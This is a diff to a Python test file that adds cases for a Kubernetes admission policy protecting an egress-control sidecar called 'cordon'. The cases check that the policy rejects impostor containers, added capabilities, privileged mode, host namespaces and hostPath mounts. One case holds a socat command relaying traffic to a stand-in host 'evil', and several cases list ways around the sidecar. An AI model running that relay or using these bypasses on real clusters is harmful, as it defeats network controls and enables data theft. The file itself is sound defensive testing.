@@ -83,7 +83,11 @@ case("the pod's runAsUser 1337, inherited by the app", variant(lambda s: pod_use
 case("the pod's runAsUser 1000, inherited by the app", variant(lambda s: pod_user(s, 1000)), True)
 case("a second container as UID 1337", variant(lambda s: s["containers"].append(busybox("helper", 1337))), False)
 case("another init container as UID 1337",
-     variant(lambda s: s["initContainers"].insert(0, busybox("setup", 1337))), False)
+     variant(lambda s: s["initContainers"].insert(1, busybox("setup", 1337))), False)
+case("a hardened init container as UID 1000 after cordon-redirect",
+     variant(lambda s: s["initContainers"].insert(1, busybox("setup", 1000))), True)
+case("a hardened init container as UID 1000 before cordon-redirect (it runs before the rules exist)",
+     variant(lambda s: s["initContainers"].insert(0, busybox("setup", 1000))), False)
 case("an ephemeral debug container as UID 1337",
      variant(lambda s: s.setdefault("ephemeralContainers", []).append(busybox("debugger", 1337))), False)
 case("a regular container named cordon as UID 1337",
@@ -113,4 +117,61 @@ case("a second container that keeps the default capabilities",
      variant(lambda s: s["containers"].append(busybox("helper", 1000, hardened=False))), False)
 case("a second hardened container as UID 1000", variant(lambda s: s["containers"].append(busybox("helper", 1000))), True)
 case("a pod without the sidecar (not this policy's business)", {"spec": {"containers": [busybox("x", 1337)]}}, True)
+
+
+def own(spec, name):
+    return next(c for c in spec["initContainers"] if c["name"] == name)
+
+
+def named_like_cordon(name, change):
+    """The shipped pod with cordon's own init container `name` changed: trusted by its name only as shipped."""
+    return variant(lambda s: change(own(s, name)))
+
+
+# A name is no credential: a container bearing one of cordon's names must have that container's shape.
+case("cordon-prepare as a native sidecar (restartPolicy: Always) as UID 1337",
+     named_like_cordon("cordon-prepare", lambda c: c.update(restartPolicy="Always")), False)
+case("cordon-prepare adding NET_ADMIN",
+     named_like_cordon("cordon-prepare", lambda c: c["securityContext"]["capabilities"].update(add=["NET_ADMIN"])),
+     False)
+case("cordon-prepare as UID 1000", named_like_cordon("cordon-prepare", lambda c: c["securityContext"].update(runAsUser=1000)),
+     False)
+case("cordon-prepare on another image", named_like_cordon("cordon-prepare", lambda c: c.update(image="busybox")), False)
+case("cordon-prepare dropping nothing",
+     named_like_cordon("cordon-prepare", lambda c: c["securityContext"].pop("capabilities")), False)
+case("cordon-prepare with allowPrivilegeEscalation: true",
+     named_like_cordon("cordon-prepare", lambda c: c["securityContext"].update(allowPrivilegeEscalation=True)), False)
+case("cordon-redirect as UID 1337",
+     named_like_cordon("cordon-redirect", lambda c: c["securityContext"].update(runAsUser=1337)), False)
+case("cordon-redirect adding SYS_ADMIN",
+     named_like_cordon("cordon-redirect", lambda c: c["securityContext"]["capabilities"]["add"].append("SYS_ADMIN")),
+     False)
+case("cordon-redirect privileged", named_like_cordon("cordon-redirect", lambda c: c["securityContext"].update(privileged=True)),
+     False)
+case("cordon-redirect as a native sidecar (it would keep NET_ADMIN running beside the app)",
+     named_like_cordon("cordon-redirect", lambda c: c.update(restartPolicy="Always")), False)
+case("cordon-redirect not first (another init container of cordon's before it)",
+     variant(lambda s: s["initContainers"].insert(0, s["initContainers"].pop(1))), False)
+case("cordon with its command replaced (a shell as UID 1337)",
+     named_like_cordon("cordon", lambda c: c.update(command=["/bin/sh", "-c", "socat TCP-LISTEN:15001,fork TCP:evil:443"])),
+     False)
+case("cordon running something other than `cordon run`",
+     named_like_cordon("cordon", lambda c: c.update(args=["jail", "--", "sh"])), False)
+case("cordon not the native sidecar", named_like_cordon("cordon", lambda c: c.pop("restartPolicy")), False)
+case("cordon adding NET_RAW",
+     named_like_cordon("cordon", lambda c: c["securityContext"]["capabilities"].update(add=["NET_RAW"])), False)
+case("cordon as UID 1000 (its traffic would be redirected to itself)",
+     named_like_cordon("cordon", lambda c: c["securityContext"].update(runAsUser=1000)), False)
+# The pod's own ways around the sidecar.
+case("the pod with hostPID", variant(lambda s: s.update(hostPID=True)), False)
+case("the pod with hostIPC", variant(lambda s: s.update(hostIPC=True)), False)
+case("the pod with shareProcessNamespace (the app sees cordon's process)",
+     variant(lambda s: s.update(shareProcessNamespace=True)), False)
+case("the pod with hostPID: false, hostIPC: false, shareProcessNamespace: false",
+     variant(lambda s: s.update(hostPID=False, hostIPC=False, shareProcessNamespace=False)), True)
+case("the pod with a hostPath volume (the container runtime's socket)",
+     variant(lambda s: s["volumes"].append({"name": "runtime", "hostPath": {"path": "/run/containerd/containerd.sock"}})),
+     False)
+case("the pod with a hostPath volume the app does not mount",
+     variant(lambda s: s["volumes"].append({"name": "node", "hostPath": {"path": "/", "type": "Directory"}})), False)
 sys.exit(1 if failures else 0)
